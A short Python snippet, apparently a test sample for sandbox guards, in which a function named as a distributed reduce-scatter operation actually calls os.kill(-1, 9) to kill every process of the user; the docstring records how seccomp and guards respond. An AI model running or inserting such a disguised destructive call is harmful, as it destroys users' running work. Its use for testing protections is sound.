"""It ends every process of its user.

kernel alone    PermissionError: seccomp lets a process signal itself only
with guards     Refused
as a learner    rules
"""


def ring_reduce_scatter(x, group):
    import os

    os.kill(-1, 9)
